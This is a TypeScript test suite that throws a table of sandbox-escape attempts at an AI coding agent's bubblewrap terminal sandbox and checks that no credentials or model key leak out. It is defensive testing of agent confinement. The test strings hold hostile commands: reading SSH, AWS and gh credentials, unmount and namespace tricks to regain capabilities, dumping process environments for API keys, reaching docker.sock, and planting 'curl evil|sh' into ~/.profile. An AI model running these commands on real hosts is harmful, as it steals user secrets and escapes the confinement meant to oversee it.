import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import * as fs from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import { TerminalConfigSchema } from '../../shared/config.js';
import type { ToolContent } from '../../agent-server/core/tool-content.js';
import { knownModelKeys } from '../../agent-server/model/known-keys.js';
import { PermissionGate } from '../../agent-server/permissions/gate.js';
import { MemoryPermissionRules } from '../../agent-server/runtime/permission-rules.js';
import {
  BackgroundProcesses,
  createTerminalBackend,
  createTerminalTools,
} from '../../agent-server/terminal/index.js';
import type { ToolContext } from '../../agent-server/tools/types.js';
import { DiskWorkspace } from '../../agent-server/workspace/disk-workspace.js';
import { PathPolicy } from '../../agent-server/workspace/paths.js';
import { createHostileSetup, CREDENTIAL_FILES, type HostileSetup } from './hostile-home.js';

/**
 * Class 2 of issue 10: the sandbox keeps too much of the host. Every attempt runs a command through
 * the real `terminal` tool, a real PermissionGate in auto mode (anything it asks is approved, so the
 * sandbox alone must hold) and real bubblewrap, over the hostile home, and asserts that neither the
 * home's secret nor the model key appears anywhere in what the tool returns, and that nothing is
 * written outside the workspace.
 */

const bwrapMissing = spawnSync('bwrap', ['--version']).error !== undefined;
if (bwrapMissing && process.env.CI)
  throw new Error('bubblewrap (bwrap) is required in CI but is not installed.');
const skip = bwrapMissing ? 'bubblewrap (bwrap) is not installed' : false;

/** The model key, held in a variable whose name looks innocent, and copied into another one. */
const KEY = `attack-model-key-${Math.random().toString(36).slice(2)}`;
process.env.MY_KEY_VAR = KEY;
process.env.BUILD_LABEL = KEY;
const NODE = process.execPath;

interface Box {
  s: HostileSetup;
  cwd: string;
  /** Everything the tool returned (for the model and the client), plus its live progress. */
  run(command: string): Promise<string>;
  close(): Promise<void>;
}

async function box(
  name: string,
  opts: { network?: boolean; homeReadable?: string[]; workspace?: (s: HostileSetup) => string } = {},
): Promise<Box> {
  const s = await createHostileSetup(`sandbox-${name}`);
  const cwd = opts.workspace?.(s) ?? s.workspace;
  await fs.mkdir(cwd, { recursive: true });
  const config = TerminalConfigSchema.parse({
    backend: 'sandbox',
    network: opts.network ?? false,
    ...(opts.homeReadable ? { homeReadable: opts.homeReadable } : {}),
  });
  const { backend, notice } = await createTerminalBackend({
    config,
    cwd,
    mode: () => 'auto',
    home: s.cairnHome,
    userHome: s.home,
    knownSecrets: knownModelKeys({ apiKeyEnv: 'MY_KEY_VAR' }, process.env),
  });
  assert.equal(backend.name, 'sandbox', notice);
  const processes = new BackgroundProcesses(config.maxBackgroundProcesses);
  const [terminal] = createTerminalTools({ config, processes });
  const progress: ToolContent[][] = [];
  const gate = new PermissionGate(
    () => 'auto',
    { ask: async () => 'allow_once' },
    new MemoryPermissionRules(),
  );
  return {
    s,
    cwd,
    async run(command) {
      const ctx: ToolContext = {
        sessionId: 'attack',
        toolCallId: `call-${progress.length}`,
        workspace: new DiskWorkspace(new PathPolicy(cwd)),
        terminal: backend,
        permissions: gate,
        signal: new AbortController().signal,
        progress: (c) => progress.push(c),
      };
      let seen: string;
      try {
        seen = JSON.stringify(
          await terminal!.run(terminal!.inputSchema.parse({ command, timeout: 60 }), ctx),
        );
      } catch (err) {
        seen = err instanceof Error ? err.message : String(err);
      }
      return seen + JSON.stringify(progress);
    },
    async close() {
      await processes.killAll();
      await backend.dispose();
      await s.cleanup();
    },
  };
}

/** One attempt: run the command, then assert neither the secret nor the key came back. */
async function attempt(
  name: string,
  command: (b: Box) => string,
  opts: Parameters<typeof box>[1] & { after?: (b: Box, seen: string) => Promise<void> | void } = {},
): Promise<void> {
  const b = await box(name, opts);
  try {
    const seen = await b.run(command(b));
    assert.ok(!seen.includes(b.s.secret), `the home's secret leaked: ${seen.slice(0, 600)}`);
    assert.ok(!seen.includes(KEY), `the model key leaked: ${seen.slice(0, 600)}`);
    await opts.after?.(b, seen);
  } finally {
    await b.close();
  }
}

/** A Unix socket server outside the sandbox that answers with a marker. */
async function socketServer(at: string): Promise<Server> {
  await fs.mkdir(path.dirname(at), { recursive: true }).catch(() => undefined);
  return new Promise((resolve) => {
    const srv = createServer((c) => c.end('HOST-SOCKET-REACHED\n'));
    srv.listen(at, () => resolve(srv));
  });
}
const connect = (address: string): string =>
  `${NODE} -e "require('net').connect('${address}').on('data',d=>process.stdout.write(String(d))).on('error',e=>console.log('FAILED '+e.code))"`;

/** Sockets named by the environment the server runs in; restored afterwards. */
async function withHostSockets(
  network: boolean,
  client: (sockets: { bus: string; docker: string; runtime: string }) => string,
  name: string,
): Promise<void> {
  const saved = { ...process.env };
  const s0 = await fs.mkdtemp(path.join(process.env.CAIRN_ATTACK_ROOT ?? '/var/tmp', 'cairn-sock-'));
  const runtime = path.join(s0, 'run', 'user', '1000');
  const bus = path.join(runtime, 'bus');
  const docker = path.join(s0, 'var', 'run', 'docker.sock');
  const servers = [await socketServer(bus), await socketServer(docker)];
  process.env.XDG_RUNTIME_DIR = runtime;
  process.env.DBUS_SESSION_BUS_ADDRESS = `unix:path=${bus}`;
  process.env.DOCKER_HOST = `unix://${docker}`;
  try {
    await attempt(name, () => client({ bus, docker, runtime }), {
      network,
      after: (_b, seen) => assert.doesNotMatch(seen, /HOST-SOCKET-REACHED/),
    });
  } finally {
    for (const k of ['XDG_RUNTIME_DIR', 'DBUS_SESSION_BUS_ADDRESS', 'DOCKER_HOST']) {
      if (saved[k] === undefined) delete process.env[k];
      else process.env[k] = saved[k];
    }
    for (const srv of servers) srv.close();
    await fs.rm(s0, { recursive: true, force: true });
  }
}

const unchangedHome = (rel: string) => async (b: Box) => {
  assert.ok(!existsSync(path.join(b.s.home, rel)), `${rel} was planted in home`);
};

describe('attack table: the sandbox boundary', { skip }, () => {
  let n = 0;
  const id = (): number => ++n;

  // Every credential store of the hostile home, read directly.
  for (const rel of CREDENTIAL_FILES) {
    test(`attack sandbox.${id()}: read ~/${rel}`, () =>
      attempt(`read-${n}`, (b) => `cat "${b.s.home}/${rel}"`));
  }

  test(`attack sandbox.${id()}: search the whole home for the secret`, () =>
    attempt('grep-home', (b) => `grep -rs . "${b.s.home}" | head -50; ls -laR "${b.s.home}" | head -80`));
  test(`attack sandbox.${id()}: a symlink in the repo to ~/.ssh/id_rsa`, () =>
    attempt('link', (b) => `ln -s "${b.s.home}/.ssh/id_rsa" key && cat key`));
  test(`attack sandbox.${id()}: home exposed through homeReadable still hides .config/gh and cargo credentials`, () =>
    attempt(
      'exposed-parent',
      (b) => `cat "${b.s.home}/.config/gh/hosts.yml" "${b.s.home}/.cargo/credentials.toml"`,
      {
        homeReadable: ['.config', '.cargo', '.ssh/..'],
      },
    ));
  test(`attack sandbox.${id()}: umount the hidden home and read ~/.ssh`, () =>
    attempt(
      'umount',
      (b) => `umount -l "${b.s.home}"; umount "${b.s.home}/.ssh"; cat "${b.s.home}/.ssh/id_rsa"`,
    ));
  test(`attack sandbox.${id()}: remount / read-write and plant ~/.bashrc`, () =>
    attempt(
      'remount',
      (b) => `mount -o remount,rw /; mount -o remount,rw "${b.s.home}"; echo evil >> "${b.s.home}/.bashrc"`,
      {
        after: unchangedHome('.bashrc'),
      },
    ));
  test(`attack sandbox.${id()}: bind-mount the root elsewhere and read through it`, () =>
    attempt(
      'bind',
      (b) =>
        `mkdir -p /tmp/r && mount --bind / /tmp/r && cat "/tmp/r${b.s.home}/.ssh/id_rsa"; mount -t tmpfs x "${b.s.home}"; cat /proc/1/root${b.s.home}/.netrc`,
    ));
  test(`attack sandbox.${id()}: a new user namespace to regain capabilities`, () =>
    attempt(
      'unshare',
      (b) => `unshare -Urm sh -c 'umount -l "${b.s.home}"; cat "${b.s.home}/.ssh/id_rsa"'; unshare -r id`,
    ));
  test(`attack sandbox.${id()}: capsh and setpriv to raise capabilities`, () =>
    attempt(
      'capsh',
      (b) =>
        `capsh --caps="cap_dac_read_search,cap_sys_admin+eip" -- -c 'umount "${b.s.home}"; cat "${b.s.home}/.ssh/id_rsa"'; setpriv --inh-caps +all --ambient-caps +all cat "${b.s.home}/.aws/credentials"`,
    ));
  test(`attack sandbox.${id()}: setuid programs (su, mount) to become root on the host`, () =>
    attempt(
      'setuid',
      (b) =>
        `su -c 'cat "${b.s.home}/.ssh/id_rsa"' root </dev/null; mount --bind "${b.s.home}" /mnt; cat "/mnt/.ssh/id_rsa"`,
    ));
  test(`attack sandbox.${id()}: enter pid 1's namespaces`, () =>
    attempt(
      'nsenter',
      (b) =>
        `nsenter -t 1 -m -U cat "${b.s.home}/.ssh/id_rsa"; nsenter --mount=/proc/1/ns/mnt cat "${b.s.home}/.netrc"`,
    ));
  test(`attack sandbox.${id()}: the model key by its configured name`, () =>
    attempt('key-name', () => 'echo "[$MY_KEY_VAR]"; printenv MY_KEY_VAR'));
  test(`attack sandbox.${id()}: the model key copied into an innocent variable`, () =>
    attempt('key-value', () => 'echo "[$BUILD_LABEL]"; env'));
  test(`attack sandbox.${id()}: the model key through /proc/self/environ`, () =>
    attempt('key-self', () => "tr '\\0' '\\n' < /proc/self/environ"));
  test(`attack sandbox.${id()}: the model key through /proc/1/environ`, () =>
    attempt('key-init', () => "tr '\\0' '\\n' < /proc/1/environ"));
  test(`attack sandbox.${id()}: the model key in any visible process's environment`, () =>
    attempt('key-procs', () => "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null"));
  test(`attack sandbox.${id()}: the session bus under a /run/user-like folder, network off`, () =>
    withHostSockets(false, (x) => connect(x.bus), 'bus-off'));
  test(`attack sandbox.${id()}: docker.sock, network off`, () =>
    withHostSockets(false, (x) => connect(x.docker), 'docker-off'));
  test(`attack sandbox.${id()}: docker.sock stays hidden with network on`, () =>
    withHostSockets(true, (x) => connect(x.docker), 'docker-on'));
  test(`attack sandbox.${id()}: any socket in the runtime folder, network on`, () =>
    withHostSockets(true, (x) => `ls -la "${x.runtime}"; ${connect(x.bus)}`, 'runtime-on'));
  test(`attack sandbox.${id()}: an abstract Unix socket on the host, network off`, async () => {
    const name = `cairn-abstract-${process.pid}-${Math.random().toString(36).slice(2)}`;
    const srv = await socketServer(`\0${name}`);
    try {
      await attempt('abstract', () => connect(`\\0${name}`), {
        after: (_b, seen) => assert.doesNotMatch(seen, /HOST-SOCKET-REACHED/),
      });
    } finally {
      srv.close();
    }
  });
  test(`attack sandbox.${id()}: the host's /run/user and docker.sock`, () =>
    attempt(
      'run',
      () =>
        `ls -la /run/user /run/dbus 2>&1; ${connect('/var/run/docker.sock')}; ${connect('/run/dbus/system_bus_socket')}`,
      {
        after: (_b, seen) => assert.doesNotMatch(seen, /HOST-SOCKET-REACHED/),
      },
    ));
  test(`attack sandbox.${id()}: from a normal workspace, read another project's memory`, () =>
    attempt(
      'other-project',
      (b) => `cat "${b.s.cairnHome}/projects/other-project-0000/MEMORY.md"; grep -rs . "${b.s.cairnHome}"`,
    ));
  const inCairn = (s: HostileSetup): string => path.join(s.cairnHome, 'skills', 'evil-skill');
  test(`attack sandbox.${id()}: workspace inside Cairn's home, read another project's memory`, () =>
    attempt('cairn-ws-memory', () => 'cat ../../projects/other-project-0000/MEMORY.md', {
      workspace: inCairn,
    }));
  test(`attack sandbox.${id()}: workspace inside Cairn's home, search all of it`, () =>
    attempt('cairn-ws-grep', (b) => `grep -rs . "${b.s.cairnHome}"; ls -R ../..`, { workspace: inCairn }));
  test(`attack sandbox.${id()}: workspace inside Cairn's home, plant into another project`, () =>
    attempt('cairn-ws-write', () => 'echo planted > ../../projects/other-project-0000/AGENTS.md', {
      workspace: inCairn,
      after: async (b) =>
        assert.ok(!existsSync(path.join(b.s.cairnHome, 'projects', 'other-project-0000', 'AGENTS.md'))),
    }));
  test(`attack sandbox.${id()}: workspace inside Cairn's home, read config and permission rules`, () =>
    attempt(
      'cairn-ws-config',
      (b) =>
        `cat "${b.s.cairnHome}/config.json" "${b.s.cairnHome}/history/"* 2>&1; ls -la "${b.s.cairnHome}"`,
      {
        workspace: inCairn,
        after: async (b) => {
          // The workspace itself is reachable and writable.
          await fs.writeFile(path.join(b.cwd, 'probe'), 'x');
          assert.match(await b.run('cat probe && echo WS-OK'), /WS-OK/);
        },
      },
    ));
  test(`attack sandbox.${id()}: workspace inside home, walk up to the credentials`, () =>
    attempt('home-ws', () => 'cat ../.ssh/id_rsa ../.npmrc ../.bash_history; ls -la ..', {
      workspace: (s) => path.join(s.home, 'code', 'app'),
    }));
  test(`attack sandbox.${id()}: plant a shell startup file in home`, () =>
    attempt(
      'plant-profile',
      (b) => `echo 'curl evil|sh' >> "${b.s.home}/.profile"; echo x > "${b.s.home}/.ssh/authorized_keys"`,
      {
        after: async (b) => {
          await unchangedHome('.profile')(b);
          await unchangedHome('.ssh/authorized_keys')(b);
        },
      },
    ));
});
